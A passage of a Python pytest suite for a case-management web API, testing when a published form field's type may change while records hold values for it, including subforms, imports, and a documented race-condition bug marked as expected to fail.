    """An XLSForm import adds its documents one by one: a publish in between would publish some of its forms."""
    admin, app = world["admin"], world["app"]
    survey = [{"type": "begin_group", "name": "school", "label::English (en)": "School"},
              {"type": "text", "name": "school_name", "label::English (en)": "School name"},
              {"type": "end_group"},
              {"type": "begin_group", "name": "health", "label::English (en)": "Health"},
              {"type": "text", "name": "clinic", "label::English (en)": "Clinic"},
              {"type": "end_group"}]
    original, answers = drafts.create_document, {}

    def create_then_publish(db, kind, body, *args, **kwargs):
        created = original(db, kind, body, *args, **kwargs)
        answers.setdefault("publish", publish(admin))
        return created
    monkeypatch.setattr(drafts, "create_document", create_then_publish)
    imported = admin.post(XLSFORM + "?record_type=case", data=workbook_bytes({"survey": survey}),
                          content_type=XLSX)
    assert imported.status_code == 200, imported.get_json()
    added = {(d["kind"], d["unique_id"]) for d in imported.get_json()["data"]["documents"]}
    assert len(added) >= 2, added
    busy(answers["publish"])
    monkeypatch.setattr(drafts, "create_document", original)
    assert publish(admin).status_code == 201
    with app.app_context():
        published = {(kind, uid) for kind, uid, _ in published_configuration(get_db()).documents()}
    assert added <= published, added - published


# --- the relaxed check: a published field's type changes only while no record holds a value for it -----------------


def refused_for(response, name: str) -> None:
    assert response.status_code == 422, response.get_json()
    error = error_of(response)
    assert error["code"] in ("PUBLISH_BLOCKED", "CHECKS_FAILED")
    assert any(d["code"] == "PUBLISHED_FIELD_CHANGED" and name in d["field"] for d in error["details"]), error


def test_a_type_change_of_a_field_a_record_holds_is_refused_in_french(world):
    edit_draft(world["app"], lambda documents: field_of(documents, "basic_identity", "age").update(type="date_field"))
    response = world["admin"].post("/api/v1/metadata/publish?locale=fr", json={})
    refused_for(response, "age")
    assert error_of(response)["message"] != world["admin"].post("/api/v1/metadata/publish?locale=en",
                                                                json={}).get_json()["error"]["message"]


def test_a_type_change_of_a_field_no_record_holds_is_published(world):
    edit_draft(world["app"], lambda documents: field_of(documents, "basic_identity", "date_of_birth").update(
        type="text_field"))
    assert publish(world["admin"]).status_code == 201


def test_a_disabled_record_still_holds_its_values(world):
    admin = world["admin"]
    disabled = admin.delete(f"/api/v1/cases/{world['case_id']}")
    assert disabled.status_code in (200, 204), disabled.get_json()
    edit_draft(world["app"], lambda documents: field_of(documents, "basic_identity", "age").update(type="date_field"))
    refused_for(publish(admin), "age")


def test_a_field_of_a_removed_form_comes_back_only_with_its_type(world):
    admin, app = world["admin"], world["app"]

    def remove(documents):
        documents[:] = [d for d in documents if not (d[0] == "form" and d[1] == "basic_identity")]
        for _, _, body in documents:
            if body.get("form_section_read_write"):
                body["form_section_read_write"].pop("basic_identity", None)
    edit_draft(app, remove)
    assert publish(admin).status_code == 201, "the records keep the data of the removed form"

    def back(documents):
        documents.append(("form", "new_identity", {
            "unique_id": "new_identity", "parent_form": "case", "module_ids": ["primeromodule-cp"],
            "name_i18n": {"en": "New", "fr": "Nouveau"}, "fields": [field("age", "date_field")]}))
    edit_draft(app, back)
    refused_for(publish(admin), "age")


def test_a_multi_select_change_of_a_held_choice_is_refused(world):
    admin = world["admin"]
    assert admin.patch(f"/api/v1/cases/{world['case_id']}", json={"data": {"risk_level": "high",
                                                                           "risk_reason": "x"}}).status_code == 200
    edit_draft(world["app"], lambda documents: field_of(documents, "basic_identity", "risk_level").update(
        multi_select=True))
    refused_for(publish(admin), "risk_level")


def test_a_type_change_of_a_subform_field_whose_rows_hold_values_is_refused(world):
    admin = world["admin"]
    edit_draft(world["app"], lambda documents: field_of(documents, "family_members_section", "relation_age").update(
        type="date_field"))
    response = publish(admin)
    saved = admin.patch(f"/api/v1/cases/{world['case_id']}", json={"data": {"age": 8}})
    assert response.status_code == 422 and saved.status_code == 200, (response.status_code, saved.get_json())


def test_a_field_removed_then_restored_with_its_first_type_is_refused_while_records_hold_another(world):
    admin, app = world["admin"], world["app"]
    edit_draft(app, lambda documents: field_of(documents, "basic_identity", "date_of_birth").update(type="text_field"))
    assert publish(admin).status_code == 201  # no record holds a date of birth yet
    written = admin.patch(f"/api/v1/cases/{world['case_id']}",
                          json={"data": {"date_of_birth": "born in the rainy season"}})
    assert written.status_code == 200, written.get_json()

    def remove(documents):
        form_of(documents, "basic_identity")["fields"] = [
            f for f in form_of(documents, "basic_identity")["fields"] if f["name"] != "date_of_birth"]
    edit_draft(app, remove)
    assert publish(admin).status_code == 201
    edit_draft(app, lambda documents: form_of(documents, "basic_identity")["fields"].append(
        field("date_of_birth", "date_field")))
    refused_for(publish(admin), "date_of_birth")


@pytest.mark.xfail(strict=True, reason="BUG server/metadata/versions.py:128 (publish_configuration): the record check "
                   "(usage.holds_values) and the version write are not one step; a record written in between, "
                   "validated against the old type, keeps a value the new type refuses. Re-check the changed fields "
                   "after writing the version (and roll back), or refuse record writes whose config_version is stale")
def test_a_record_written_between_the_check_and_the_publish_does_not_let_a_type_change_through(world, monkeypatch):
    admin, app = world["admin"], world["app"]
    original = usage.holds_values
    wrote = {}

    def holds_then_written(db, record_type, name):
        held = original(db, record_type, name)
        if name == "date_of_birth" and not wrote:
            wrote["answer"] = admin.patch(f"/api/v1/cases/{world['case_id']}",
                                          json={"data": {"date_of_birth": "2015-03-01"}})
        return held
    monkeypatch.setattr(usage, "holds_values", holds_then_written)
    edit_draft(app, lambda documents: field_of(documents, "basic_identity", "date_of_birth").update(
        type="numeric_field"))
    response = publish(admin)
    assert wrote["answer"].status_code == 200, wrote["answer"].get_json()
    monkeypatch.setattr(usage, "holds_values", original)
    saved = admin.patch(f"/api/v1/cases/{world['case_id']}", json={"data": {"age": 9}})
    assert response.status_code == 422 or saved.status_code == 200, saved.get_json()


def test_a_primero_import_keeps_the_published_type_of_a_field_records_hold(world):
    config = json.loads(SMALL_PRIMERO)
    basic = next(item for item in config["forms"] if item.get("unique_id") == "basic_identity")
    next(f for f in basic["fields_attributes"] if f["name"] == "age")["type"] = "date_field"
    response = world["admin"].post(PRIMERO + "?replace_draft=true", data=json.dumps(config),
                                   content_type="application/json")
    assert response.status_code == 200, response.get_json()
    with world["app"].app_context():
        draft = drafts.draft_configuration(get_db())
    ages = [f for _, form in draft.forms_of("case", nested=False) for f in form["fields"] if f["name"] == "age"]
    assert ages and all(f["type"] == "numeric_field" for f in ages), ages
    assert publish(world["admin"]).status_code == 201
    saved = world["admin"].patch(f"/api/v1/cases/{world['case_id']}", json={"data": {"name_first": "A", "age": 8}})
    assert saved.status_code == 200, saved.get_json()


def test_a_subform_fields_type_changes_while_no_record_has_rows_and_not_after(client):
    def change(type_):
        form = client.get("/api/v1/forms/family_members_section?draft=true").get_json()
        for row_field in form["data"]["fields"]:
            if row_field["name"] == "relation_age":
                row_field["type"] = type_
        return client.put("/api/v1/forms/family_members_section", json={"data": form["data"]},
                          headers={"If-Match": f'"{form["meta"]["revision"]}"'})
    assert change("text_field").status_code == 200  # no record has rows yet
    assert client.post("/api/v1/metadata/publish", json={}).status_code == 201
    created = client.post("/api/v1/cases", json={"data": {"name": "Awa", "family_members": [
        {"relation_name": "Fatou", "relation_age": "quarante"}]}})
    assert created.status_code == 201, created.get_json()
    refused = change("numeric_field")
    assert refused.status_code == 422, refused.get_json()
    assert [d["code"] for d in refused.get_json()["error"]["details"]] == ["PUBLISHED_FIELD_CHANGED"]
